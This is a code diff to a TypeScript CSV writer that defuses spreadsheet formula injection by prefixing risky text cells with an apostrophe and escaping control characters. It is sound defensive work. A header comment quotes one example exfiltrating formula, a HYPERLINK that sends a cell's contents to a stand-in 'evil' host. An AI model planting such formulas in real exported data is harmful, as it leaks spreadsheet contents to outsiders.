@@ -6,9 +6,37 @@
 // Streaming: the header is written with the first page, from the union of that page's keys. The header
 // cannot change afterwards, so keys that only later pages bring are left out of the rows, and the writer
 // reports them (the command warns once on stderr and suggests -o ndjson, which keeps every key).
+//
+// CSV is opened in spreadsheets, where a cell starting with `=`, `+`, `-` or `@` (or a tab or CR, which some
+// strip first) is a formula: `=HYPERLINK("http://evil/?"&A1,"click")` from an event field would run in the
+// admin's spreadsheet. Such a text cell gets a leading `'` (OWASP's advice); numbers, and text that is a
+// plain decimal number (`-5`, `+3.2e4`), are left alone. Control and invisible format characters in a cell
+// (but a tab or line break, which a quoted cell holds) are written as `\u` and the code point, so piped CSV
+// carries no escape sequence either. `--csv-raw` writes every cell exactly as received (on a terminal the
+// one sanitiser still shows controls as escapes: nothing received may drive the terminal).
+import { visible } from '../core/service-text.js';
 import { columnsOf, formatCell, type RecordWriter, type ReportRecord } from './records.js';
 
 export const CSV_LINE_END = '\r\n';
+
+/** Starts that make a spreadsheet read a cell as a formula. */
+const FORMULA_START = /^[=+\-@\t\r]/;
+/** Text that is a number as written: left as it is, it is a number in the spreadsheet too, not a formula. */
+const DECIMAL = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;
+/** C0 but tab, LF and CR; DEL; C1; the invisible format characters; lone surrogates. */
+const UNSEEN = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\p{Cf}\p{Cs}\u2028\u2029]/gu;
+
+/** How a cell's text goes into the file: defused (the default) or exactly as received (`--csv-raw`). */
+export type CsvCells = 'safe' | 'raw';
+
+/** A text cell made safe to open in a spreadsheet and to print (see the header). */
+export function safeCsvText(text: string): string {
+  const shown = text.replace(UNSEEN, (char) => {
+    const code = char.codePointAt(0)!;
+    return code > 0xffff ? `\\u{${code.toString(16)}}` : `\\u${code.toString(16).padStart(4, '0')}`;
+  });
+  return FORMULA_START.test(shown) && !DECIMAL.test(shown) ? `'${shown}` : shown;
+}
 
 /** One field, quoted when it must be. */
 export function csvField(text: string): string {
@@ -24,15 +52,20 @@ export class CsvWriter implements RecordWriter {
   private columns: string[] | undefined;
   private readonly known = new Set<string>();
 
+  private readonly cellText: (text: string) => string;
+
   /**
    * @param onNewColumns called with the keys a later page brought that the header lacks, once per key.
-   * @param cellText turns each cell's text into what is written: on a terminal, `visible`, so that a
-   *   record cannot drive it; into a file or pipe, the text as it is.
+   * @param how `cells`: defused, or as received (`--csv-raw`); `terminal`: stdout is one, so every cell
+   *   also goes through `visible` (a record must never drive the terminal).
    */
   constructor(
     private readonly onNewColumns: (keys: string[]) => void = () => {},
-    private readonly cellText: (text: string) => string = (text) => text,
-  ) {}
+    how: { cells?: CsvCells; terminal?: boolean } = {},
+  ) {
+    const cells = how.cells ?? 'safe';
+    this.cellText = cells === 'safe' ? safeCsvText : how.terminal ? visible : (text) => text;
+  }
 
   page(records: readonly ReportRecord[]): string {
     if (records.length === 0) return '';
@@ -49,7 +82,9 @@ export class CsvWriter implements RecordWriter {
       }
     }
     const columns = this.columns;
-    for (const record of records) text += csvRow(columns.map((column) => this.cellText(formatCell(record[column]))));
+    // Numbers are written as they are: only text can be a formula.
+    const cell = (value: unknown): string => (typeof value === 'string' || (typeof value === 'object' && value !== null) ? this.cellText(formatCell(value)) : formatCell(value));
+    for (const record of records) text += csvRow(columns.map((column) => cell(record[column])));
     return text;
   }
 
